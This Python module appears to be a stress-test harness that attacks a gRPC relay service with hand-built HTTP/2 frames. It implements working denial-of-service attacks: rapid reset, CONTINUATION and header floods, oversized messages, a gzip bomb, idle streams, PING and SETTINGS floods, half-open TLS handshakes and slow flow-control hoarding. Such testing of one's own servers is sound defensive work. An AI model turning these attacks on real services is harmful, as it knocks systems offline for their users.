"""Onslaught: what a hostile client sends to a relay: HTTP/2 frames made by hand, with a certificate or without.

Each attack runs until a number of seconds has passed, connects again whenever it is thrown out, and returns how often
it did what it does. It reads nothing unless reading belongs to it.
"""

from __future__ import annotations

import collections
import contextlib
import gzip
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SUBMIT = "/infoexchange.v1.RelayService/Submit"
FETCH = "/infoexchange.v1.RelayService/Fetch"
CHECKPOINT = "/infoexchange.v1.AuditService/GetCheckpoint"
HALF_OPEN = 200
_CONNECT_SECONDS = 30.0  # a relay under attack from many sides may be slow to answer; no figure depends on it
_THROWN_OUT = (OSError, ssl.SSLError)  # what a client sees whom the relay has closed the door on


@dataclass(frozen=True)
class Target:
    """A relay, and the certificate with which it is attacked; without one the attack stays outside.

    Attributes:
        address: `host:port`.
        name: The relay's name.
        roots: PEM file of the CAs of the relay's nation; empty for no TLS.
        certificate: PEM file of a certificate; empty for none.
        key: PEM file of its key.
    """

    address: str
    name: str
    roots: str
    certificate: str = ""
    key: str = ""

    def socket(self) -> socket.socket:
        """Return a connected socket, without TLS so far."""
        host, _, port = self.address.rpartition(":")
        return socket.create_connection((host, int(port)), timeout=_CONNECT_SECONDS)

    def context(self) -> ssl.SSLContext:
        """Return the client's side of TLS 1.3."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.set_alpn_protocols(["h2"])
        context.load_verify_locations(self.roots)
        if self.certificate:
            context.load_cert_chain(self.certificate, self.key)
        return context


class Connection:
    """An HTTP/2 connection that follows no rules."""

    def __init__(self, target: Target, context: ssl.SSLContext | None = None) -> None:
        """Connect, and send preface and settings."""
        raw = target.socket()
        self.tls = raw
        try:
            if target.roots:
                self.tls = (context or target.context()).wrap_socket(raw, server_hostname=target.name)
        except BaseException:
            raw.close()
            raise
        self.authority = target.name
        self._encoder = Encoder()
        self._next = 1
        self._received = b""
        self.send_raw(PREFACE + SettingsFrame(0).serialize())

    def send_raw(self, data: bytes) -> None:
        """Send bytes."""
        self.tls.sendall(data)

    def send(self, *frames: Frame) -> None:
        """Send frames in one write."""
        self.send_raw(b"".join(frame.serialize() for frame in frames))

    def stream(self) -> int:
        """Return the number of the next stream."""
        number, self._next = self._next, self._next + 2
        return number

    def block(self, path: str, *more: tuple[str, str]) -> bytes:
        """Return the header block of a gRPC call."""
        usual = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", path),
            (":authority", self.authority),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        ]
        return self._encoder.encode([*usual, *more])

    def headers(self, path: str, *more: tuple[str, str], stream: int = 0) -> HeadersFrame:
        """Return the frame that opens a call."""
        return HeadersFrame(stream or self.stream(), self.block(path, *more), flags=["END_HEADERS"])

    def close(self) -> None:
        """Close without a word."""
        with contextlib.suppress(OSError):
            self.tls.close()

    def frames(self, seconds: float) -> Iterator[Frame]:
        """Yield what the relay sends, until it has said nothing for some seconds or has closed the connection."""
        self.tls.settimeout(seconds)
        try:
            while data := self.tls.recv(65536):
                self._received += data
                while len(self._received) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(self._received[:9]))
                    if len(self._received) < 9 + length:
                        break
                    frame.parse_body(memoryview(self._received[9 : 9 + length]))
                    self._received = self._received[9 + length :]
                    if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                        self.send(PingFrame(0, frame.opaque_data, flags=["ACK"]))
                    yield frame
        except OSError:  # also when nothing came in time
            return
        finally:
            with contextlib.suppress(OSError):
                self.tls.settimeout(_CONNECT_SECONDS)


def message(body: bytes, *, compressed: bool = False) -> bytes:
    """Return a gRPC message with its five bytes before it."""
    return struct.pack(">BI", compressed, len(body)) + body


def pieces(stream: int, body: bytes) -> list[Frame]:
    """Return data frames that hold some bytes."""
    return [DataFrame(stream, body[at : at + 16384]) for at in range(0, len(body), 16384)]


@contextlib.contextmanager
def thrown_out() -> Iterator[None]:
    """Go on when the relay closes the connection: it defends itself."""
    with contextlib.suppress(*_THROWN_OUT):
        yield


def again_and_again(target: Target, seconds: float, once: Callable[[Connection], int]) -> int:
    """Do something on one connection after the other until time is up; return how often it was done."""
    context, end, count = target.context(), time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with thrown_out(), contextlib.closing(Connection(target, context)) as connection:
            while time.monotonic() < end:
                count += once(connection)
    return count


# Each attack: what one turn sends, on a connection that is there


def rapid_reset(connection: Connection) -> int:
    """Open calls and take them back at once."""
    frames: list[Frame] = []
    for _ in range(50):
        opening = connection.headers(CHECKPOINT)
        frames += [opening, RstStreamFrame(opening.stream_id, error_code=8)]
    connection.send(*frames)
    return 50


def huge_headers(connection: Connection) -> int:
    """Open a call with more metadata than anybody needs."""
    connection.send(connection.headers(CHECKPOINT, *((f"x-{n}", "a" * 1000) for n in range(14))))
    return 1


def endless_headers(connection: Connection) -> int:
    """Begin a header block that never ends."""
    stream = connection.stream()
    connection.send(HeadersFrame(stream, connection.block(CHECKPOINT)))
    for _ in range(1000):
        connection.send(ContinuationFrame(stream, connection._encoder.encode([("x-more", "b" * 4000)])))
    return 1000


def oversized(connection: Connection) -> int:
    """Announce a message of 4 GiB, and send as much of one of 9 MiB as goes."""
    for length in (0xFFFFFFFF, 9 * 1024 * 1024):
        opening = connection.headers(SUBMIT, ("grpc-timeout", "10S"))
        body = struct.pack(">BI", 0, length) + bytes(64 * 1024)
        connection.send(opening, *pieces(opening.stream_id, body))
    return 2


def compressed(connection: Connection) -> int:
    """Send 64 MiB of zeros in 64 KiB."""
    opening = connection.headers(SUBMIT, ("grpc-encoding", "gzip"), ("grpc-timeout", "10S"))
    body = message(_BOMB, compressed=True)
    connection.send(opening, *pieces(opening.stream_id, body))
    return 1


def idle_streams(connection: Connection) -> int:
    """Open as many calls as there may be, and more, and say nothing."""
    connection.send(*(connection.headers(SUBMIT, ("grpc-timeout", "10S")) for _ in range(100)))
    return 100


def pings(connection: Connection) -> int:
    """Ask whether anybody is there."""
    connection.send(*(PingFrame(0, b"12345678") for _ in range(200)))
    return 200


def settings(connection: Connection) -> int:
    """Change one's mind about everything."""
    connection.send(*(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: n}) for n in range(1000, 1200)))
    return 200


_BOMB = gzip.compress(bytes(64 * 1024 * 1024))

IN_FRAMES: dict[str, Callable[[Connection], int]] = {
    "rapid reset": rapid_reset,
    "huge headers": huge_headers,
    "endless headers": endless_headers,
    "oversized frames": oversized,
    "compressed frames": compressed,
    "idle streams": idle_streams,
    "pings": pings,
    "settings": settings,
}


def half_open(target: Target, seconds: float) -> int:
    """Begin 200 handshakes and finish none; those that the relay gives up are begun again."""
    hello, end, count = _client_hello(target), time.monotonic() + seconds, 0
    held: list[socket.socket] = []
    try:
        while time.monotonic() < end:
            while len(held) < HALF_OPEN and time.monotonic() < end:
                with thrown_out():
                    one = target.socket()
                    held.append(one)
                    one.sendall(hello[: len(hello) // 2])
                    one.setblocking(False)
                    count += 1
            time.sleep(0.05)
            held = [one for one in held if not _gone(one)]
    finally:
        for one in held:
            one.close()
    return count


def _gone(one: socket.socket) -> bool:
    """Whether the relay has closed a connection; if so, so do we."""
    try:
        gone = not one.recv(4096)
    except BlockingIOError:
        return False
    except OSError:
        gone = True
    if gone:
        one.close()
    return gone


def _client_hello(target: Target) -> bytes:
    """Return the first bytes of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = target.context().wrap_bio(incoming, outgoing, server_hostname=target.name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def hoard(target: Target, calls: int, size: int, enough: int) -> int:
    """Open calls with a message each of which the last byte never comes; return how many bytes the relay takes.

    It ends when the relay has taken `enough`, or takes nothing more for a second.
    """
    with contextlib.closing(Connection(target)) as connection:
        body, window, first, quiet, taken = message(bytes(size))[:-1], 65535, 65535, 0, 0
        sent, room = dict.fromkeys((connection.stream() for _ in range(calls)), 0), collections.Counter[int]()
        connection.send(*(connection.headers(SUBMIT, ("grpc-timeout", "600S"), stream=stream) for stream in sent))
        while taken < enough and quiet < 10:
            for frame in connection.frames(0.1):
                if isinstance(frame, WindowUpdateFrame):
                    room[frame.stream_id] += frame.window_increment
                elif isinstance(frame, SettingsFrame):
                    first = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, first)
            window += room.pop(0, 0)
            quiet += 1
            for stream, start in sent.items():
                part = body[start : start + max(0, min(window, first + room[stream] - start))]
                if part:
                    connection.send(*pieces(stream, part))
                    sent[stream], window, taken, quiet = start + len(part), window - len(part), taken + len(part), 0
        return taken


def read_nothing(target: Target, streams: int, *, follow: bool = False) -> Connection:
    """Return a connection with Fetch streams that nobody reads."""
    connection = Connection(target)
    request = message(b"\x08\x01" if follow else b"")
    for _ in range(streams):
        opening = connection.headers(FETCH, *(() if follow else (("grpc-timeout", "3600S"),)))
        connection.send(opening, DataFrame(opening.stream_id, request, flags=["END_STREAM"]))
    return connection


def attack(name: str, target: Target, seconds: float) -> int:
    """Run an attack by name; return how often it did what it does."""
    if name == HANDSHAKES:
        return half_open(target, seconds)
    return again_and_again(target, seconds, IN_FRAMES[name])


HANDSHAKES = "half-open handshakes"
ATTACKS = (*IN_FRAMES, HANDSHAKES)
